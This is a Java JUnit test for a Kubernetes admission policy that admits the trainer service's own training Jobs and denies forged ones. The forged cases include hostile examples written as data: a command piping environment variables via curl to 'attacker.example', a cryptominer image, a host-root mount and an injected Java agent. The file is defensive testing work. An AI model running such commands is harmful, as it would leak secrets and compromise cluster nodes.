package org.affinityensemble.trainer.execution;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;
import io.fabric8.kubernetes.api.model.ContainerBuilder;
import io.fabric8.kubernetes.api.model.EnvVarBuilder;
import io.fabric8.kubernetes.api.model.PodSpec;
import io.fabric8.kubernetes.api.model.VolumeBuilder;
import io.fabric8.kubernetes.api.model.batch.v1.Job;
import io.fabric8.kubernetes.api.model.batch.v1.JobBuilder;
import io.quarkus.runtime.configuration.DurationConverter;
import io.smallrye.config.EnvConfigSource;
import io.smallrye.config.SmallRyeConfig;
import io.smallrye.config.SmallRyeConfigBuilder;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.affinityensemble.trainer.config.TrainerConfig;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The admission policy of k8s/cluster/training-job-policy.yaml, evaluated with CEL against the Jobs this trainer
 * builds from its own ConfigMap (k8s/base/trainer-service.yaml, read through the same configuration mapping the
 * service uses): every Job the trainer launches is admitted, with and without a model volume, and each way a stolen
 * trainer token could be used to launch something else is denied with its reason. Other principals are not matched.
 */
class TrainingJobAdmissionPolicyTest {

    private static final Path POLICY = Path.of("..", "k8s", "cluster", "training-job-policy.yaml");
    private static final Path TRAINER_MANIFEST = Path.of("..", "k8s", "base", "trainer-service.yaml");
    private static final String NAMESPACE = "affinity-ensemble";
    private static final String TRAINER = "system:serviceaccount:" + NAMESPACE + ":trainer-service";

    private static AdmissionPolicy policy;
    private static Map<String, String> config;

    @BeforeAll
    static void load() throws IOException {
        policy = AdmissionPolicy.load(POLICY);
        config = trainerConfigMap();
    }

    @Test
    void everyJobTheTrainerBuildsIsAdmitted() {
        Job job = template(config).job("v3-g-sentiment", "g-sentiment", 2);

        assertThat(policy.violations(job, TRAINER, NAMESPACE, config)).isEmpty();
    }

    @Test
    void aJobWithTheConfiguredModelVolumeIsAdmittedAndAnotherClaimIsNot() {
        Map<String, String> decoder = new HashMap<>(config);
        decoder.put("ENSEMBLE_TRAINER_KUBERNETES_MODEL_VOLUME_CLAIM", "decoder-model");
        decoder.put("ENSEMBLE_TRAINER_KUBERNETES_MODEL_MOUNT_PATH", "/models/llama-3.2-1b");
        Job job = template(decoder).job("v3-g-1", "g-1", 1);

        assertThat(policy.violations(job, TRAINER, NAMESPACE, decoder)).isEmpty();
        assertThat(policy.violations(job, TRAINER, NAMESPACE, config)).as("no model claim configured")
                .containsExactly("a training Job mounts only emptyDir, the Kafka CA and the base model's claim"
                        + " (read-only)");
    }

    static Stream<Arguments> forgedJobs() {
        return Stream.of(
                forged("another image", "runs the image", pod -> pod.getContainers().get(0)
                        .setImage("attacker.example/miner:latest")),
                forged("another ServiceAccount", "runs as ensemble-training-job", pod ->
                        pod.setServiceAccountName("trainer-service")),
                forged("a mounted token", "no service account token", pod ->
                        pod.setAutomountServiceAccountToken(true)),
                forged("another command", "runs the training entry point", pod -> pod.getContainers().get(0)
                        .setCommand(List.of("/bin/sh", "-c", "env | curl -d @- https://attacker.example"))),
                forged("extra arguments", "runs the training entry point", pod -> pod.getContainers().get(0)
                        .setArgs(List.of("--debug"))),
                forged("an injected JVM option", "sets only the run's variables", pod -> pod.getContainers().get(0)
                        .getEnv().add(new EnvVarBuilder().withName("JAVA_TOOL_OPTIONS")
                                .withValue("-javaagent:/tmp/agent.jar").build())),
                forged("another Secret in the environment", "reads only the S3 Secret", pod -> pod.getContainers()
                        .get(0).getEnv().get(4).getValueFrom().getSecretKeyRef()
                        .setName("ensemble-postgres-credentials")),
                forged("a Secret through envFrom", "from the shared ConfigMap only", pod -> pod.getContainers().get(0)
                        .getEnvFrom().get(0).setConfigMapRef(null)),
                forged("a host path", "mounts only emptyDir", pod -> pod.getVolumes().add(new VolumeBuilder()
                        .withName("host").withNewHostPath().withPath("/").endHostPath().build())),
                forged("another Secret as a volume", "mounts only emptyDir", pod -> pod.getVolumes().add(
                        new VolumeBuilder().withName("pg").withNewSecret().withSecretName(
                                "ensemble-postgres-credentials").endSecret().build())),
                forged("a second container", "exactly one container", pod -> pod.getContainers().add(
                        new ContainerBuilder(pod.getContainers().get(0)).withName("sidecar").build())),
                forged("an init container", "exactly one container", pod -> pod.setInitContainers(List.of(
                        new ContainerBuilder(pod.getContainers().get(0)).withName("init").build()))),
                forged("the host network", "shares nothing with its node", pod -> pod.setHostNetwork(true)),
                forged("no limits", "CPU and memory limits", pod -> pod.getContainers().get(0).getResources()
                        .setLimits(null)));
    }

    private static Arguments forged(String change, String reason, Consumer<PodSpec> edit) {
        return Arguments.of(change, reason, edit);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("forgedJobs")
    void aJobTheTemplateWouldNotBuildIsDenied(String change, String reason, Consumer<PodSpec> edit) {
        Job job = new JobBuilder(template(config).job("v3-g-1", "g-1", 1)).build();
        edit.accept(job.getSpec().getTemplate().getSpec());

        assertThat(policy.violations(job, TRAINER, NAMESPACE, config)).as(change)
                .anySatisfy(message -> assertThat(message).contains(reason));
    }

    @Test
    void aJobWithoutTheTrainersLabelsIsDenied() {
        Job job = new JobBuilder(template(config).job("v3-g-1", "g-1", 1)).editMetadata()
                .removeFromLabels("app.kubernetes.io/managed-by").endMetadata().build();

        assertThat(policy.violations(job, TRAINER, NAMESPACE, config)).containsExactly(
                "a training Job carries the labels managed-by=trainer-service and component=training-job");
    }

    @Test
    void withoutItsParametersEveryTrainerJobIsDenied() {
        Map<String, String> withoutImage = new HashMap<>(config);
        withoutImage.remove("ENSEMBLE_TRAINER_KUBERNETES_IMAGE");
        Job job = template(config).job("v3-g-1", "g-1", 1);

        assertThat(policy.violations(job, TRAINER, NAMESPACE, withoutImage)).isNotEmpty();
    }

    @Test
    void otherPrincipalsAreNotMatched() {
        Job job = template(config).job("v3-g-1", "g-1", 1);
        job.getSpec().getTemplate().getSpec().getContainers().get(0).setImage("ops.example/debug:1");

        assertThat(policy.violations(job, "system:serviceaccount:" + NAMESPACE + ":ci-deployer", NAMESPACE, config))
                .isEmpty();
        assertThat(policy.violations(job, "system:serviceaccount:other:trainer-service", NAMESPACE, config))
                .as("a trainer-service account of another namespace").isEmpty();
        assertThat(policy.violations(job, TRAINER, NAMESPACE, config)).isNotEmpty();
    }

    /** The Job template as the service builds it from these ConfigMap entries (its environment). */
    private static TrainingJobTemplate template(Map<String, String> environment) {
        SmallRyeConfig smallRye = new SmallRyeConfigBuilder().withSources(new EnvConfigSource(environment, 300))
                .withConverter(Duration.class, 200, new DurationConverter()).withMapping(TrainerConfig.class).build();
        return new TrainingJobTemplate(smallRye.getConfigMapping(TrainerConfig.class).kubernetes()
                .settings(NAMESPACE));
    }

    private static Map<String, String> trainerConfigMap() throws IOException {
        ObjectMapper yaml = new ObjectMapper(new YAMLFactory());
        for (JsonNode document : yaml.readerFor(JsonNode.class).<JsonNode>readValues(TRAINER_MANIFEST.toFile())
                .readAll()) {
            if (document.path("kind").asText().equals("ConfigMap")
                    && document.at("/metadata/name").asText().equals("trainer-service-config")) {
                Map<String, String> data = new HashMap<>();
                document.get("data").fields().forEachRemaining(e -> data.put(e.getKey(), e.getValue().asText()));
                return data;
            }
        }
        throw new IllegalStateException(TRAINER_MANIFEST + " has no ConfigMap trainer-service-config");
    }
}
